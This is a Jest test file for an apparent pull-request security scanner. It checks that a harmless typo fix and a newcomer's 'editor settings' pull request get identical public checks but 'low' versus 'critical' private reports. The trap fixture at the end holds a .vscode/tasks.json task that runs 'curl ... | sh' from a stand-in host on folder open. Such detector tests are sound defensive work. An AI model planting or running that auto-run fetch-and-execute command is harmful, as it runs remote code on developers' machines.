import { afterAll, beforeAll, expect, test } from "@jest/globals";
import { installationId, repositoryId } from "../../src/ids.ts";
import { addOrganization, addRepository, addUser } from "../../src/sim/build.ts";
import { addedFile, openPullRequest } from "../../src/sim/build-work.ts";
import { pullRequestWebhook } from "../../src/sim/payload/pull-request.ts";
import { createWorld } from "../../src/sim/world.ts";
import { type RunningApp, runApp } from "../support/running-app.ts";

const NOW = "2026-03-02T10:00:00.000Z";
const world = createWorld();
const owner = addUser(world, { login: "olga-example", createdAt: "2015-01-01T00:00:00Z" });
const organization = addOrganization(world, { login: "octo-org", createdAt: "2016-01-01T00:00:00Z", owners: [owner] });
const wallet = addRepository(world, { owner: organization, name: "wallet", createdAt: "2017-01-01T00:00:00Z" });
const newcomer = addUser(world, { login: "new-example", createdAt: "2026-02-20T00:00:00Z" });

let app: RunningApp;

beforeAll(async () => {
  app = await runApp({ world, organization, owner, now: NOW, live: true });
});

afterAll(async () => {
  await app.stop();
});

test("scenario: two pull requests get byte-identical sealed checks and private reports that differ", async () => {
  const harmless = openPullRequest(world, wallet, { author: owner, title: "Fix a typo", at: NOW });
  const trap = openPullRequest(world, wallet, {
    author: newcomer,
    title: "Add editor settings",
    at: NOW,
    files: [addedFile(".vscode/tasks.json", TASKS)],
  });
  for (const pullRequest of [harmless, trap]) {
    const delivery = await app.sim.deliver(
      pullRequestWebhook(app.sim.stage, { pullRequest, action: "opened", sender: owner }),
    );
    expect(delivery?.statusCode).toBe(202);
  }
  await app.settle();

  const runs = [...world.checkRuns.values()];
  expect(runs).toHaveLength(2);
  const shown = runs.map(({ name, status, conclusion, output, actions }) =>
    JSON.stringify({ name, status, conclusion, output, actions }),
  );
  expect(new Set(shown).size).toBe(1);
  expect(runs.every(({ externalId, detailsUrl }) => detailsUrl.endsWith(`/r/${externalId}`))).toBe(true);

  const tenant = app.service.store.tenant(installationId(app.installation.id));
  const levels = [];
  for (const { commits } of [harmless, trap]) {
    const [report] = await tenant.reportsOfHead(repositoryId(wallet.id), commits.at(-1)?.sha ?? "");
    levels.push(report?.assessment.change.level);
  }
  expect(levels).toEqual(["low", "critical"]);
  app.sim.expectNoViolations();
});

const TASKS = JSON.stringify({
  version: "2.0.0",
  tasks: [
    {
      label: "setup",
      type: "shell",
      command: "curl -s https://example.invalid/s | sh",
      runOptions: { runOn: "folderOpen" },
    },
  ],
});
